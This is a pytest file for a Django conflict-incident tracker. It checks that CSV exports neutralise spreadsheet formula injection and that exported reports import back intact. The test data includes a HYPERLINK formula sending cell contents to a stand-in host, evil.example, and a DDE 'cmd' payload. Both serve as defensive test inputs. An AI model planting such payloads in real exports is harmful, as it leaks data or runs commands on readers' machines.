"""Found by a review of the exports: a report's words that begin with = + - or @ were written
as they are to every CSV (the exports, the ACLED export, the API's incidents.csv), where a
spreadsheet runs them as formulas on the reader's machine."""

import csv
import io

import pytest
from django.test import Client

from thitsa.incidents.models import Incident
from thitsa.publish.acled_export import write_acled
from thitsa.publish.exports import write_csv
from thitsa.publish.spreadsheet import cell
from thitsa.reports.models import Source, SourceReport

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"photos")'


@pytest.mark.parametrize(
    "value, written",
    [
        (FORMULA, "'" + FORMULA),
        ("+95 9 000", "'+95 9 000"),
        ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1", "'\t=1"),
        ("-3.5", "-3.5"),  # a number stays a number
        ("+12", "+12"),
        ("Jets bomb a school", "Jets bomb a school"),
        ("", ""),
        (22, 22),
        (None, None),
    ],
)
def test_a_cell_is_never_a_formula(value, written):
    assert cell(value) == written


@pytest.mark.django_db
def test_no_export_writes_a_formula():
    source = Source.objects.create(name=FORMULA, kind="media")
    incident = Incident.objects.create(
        public_id="MMR-2025-000901", date="2025-05-12", visibility="public",
        perpetrator="@SUM(1+1)", summary_en=FORMULA,
    )  # fmt: skip
    SourceReport.objects.create(
        import_key="csvi-1", source=source, title=FORMULA, incident=incident,
        killed_min=3, killed_max=3,
    )  # fmt: skip
    outputs = {}
    for name, write in (("csv", write_csv), ("acled", write_acled)):
        out = io.StringIO()
        write("incidents", out, public=True)
        outputs[f"incidents {name}"] = out.getvalue()
    out = io.StringIO()
    write_csv("reports", out, public=True)
    outputs["reports csv"] = out.getvalue()
    response = Client().get("/api/v1/incidents.csv")
    outputs["API incidents.csv"] = b"".join(response.streaming_content).decode()
    for name, text in outputs.items():
        cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
        assert not [c for c in cells if c[:1] in ("=", "+", "@")], name
        assert any(c == "'" + FORMULA for c in cells), name


@pytest.mark.django_db
def test_an_export_with_formula_like_values_imports_back_as_it_was(tmp_path):
    """Found by a review of this change: "'@SagaingAlerts" came back as a second source (and
    a second, independent voice in the grade), and "'- Airstrike" as another title."""
    from thitsa.reports.loading import import_file

    path = tmp_path / "reports.csv"
    path.write_text(
        "report_id,source,title,text,event_date,place\n"
        't1,@SagaingAlerts,- Airstrike on Tabayin,"=1+1 were hurt",2025-05-12,Tabayin\n',
        encoding="utf-8",
    )
    import_file(path, "thitsa", progress=False)
    out = io.StringIO()
    write_csv("reports", out)
    assert "'@SagaingAlerts" in out.getvalue()
    exported = tmp_path / "exported.csv"
    exported.write_text(out.getvalue(), encoding="utf-8")
    again = import_file(exported, "thitsa", progress=False)
    assert (again.created, again.existing, again.errors) == (0, 1, [])
    assert list(Source.objects.values_list("name", flat=True)) == ["@SagaingAlerts"]
    report = SourceReport.objects.get()
    assert (report.title, report.text) == ("- Airstrike on Tabayin", "=1+1 were hurt")


@pytest.mark.django_db
def test_an_exported_report_imports_back_with_its_place_responsibility_and_credibility(tmp_path):
    """Found by a user's round trip: a claim of responsibility, a doubtful credibility and a
    place a verifier chose were lost (a confirmed incident came back "fair", a doubtful count
    counted again, a placed report back in the places to check), and the export's own
    columns were kept as extra data."""
    from thitsa.reports.loading import import_file

    path = tmp_path / "reports.csv"
    path.write_text(
        "report_id,source,title,event_date,place,killed,responsibility,credibility,editor\n"
        "r1,AA Info Desk,AA says it shelled the camp,2025-05-12,the camp by the big river,"
        "4,claimed,5,Ko Ko\n",
        encoding="utf-8",
    )
    import_file(path, "thitsa", progress=False)
    SourceReport.objects.update(place_id="MMR002002", place_score=100.0)  # a verifier's
    out = io.StringIO()
    write_csv("reports", out)
    SourceReport.objects.all().delete()
    exported = tmp_path / "exported.csv"
    exported.write_text(out.getvalue(), encoding="utf-8")
    summary = import_file(exported, "thitsa", progress=False)
    assert (summary.created, summary.errors) == (1, [])
    report = SourceReport.objects.get()
    assert (report.responsibility, report.credibility) == ("claimed", 5)
    assert (report.place_id, report.place_text) == ("MMR002002", "the camp by the big river")
    assert (report.killed_min, report.killed_max) == (4, 4)
    assert not set(report.extra) & {
        "event_date_precision",
        "place_pcode",
        "killed_min",
        "credibility",
    }


@pytest.mark.django_db
def test_a_place_pcode_that_is_no_pcode_is_refused_by_its_field(tmp_path):
    from thitsa.reports.loading import import_file

    path = tmp_path / "reports.csv"
    path.write_text(
        "report_id,source,title,place,place_pcode\nr1,A,Airstrike,Tabayin,Tabayin\n",
        encoding="utf-8",
    )
    summary = import_file(path, "thitsa", progress=False)
    assert "place_pcode" in str(summary.errors[0])
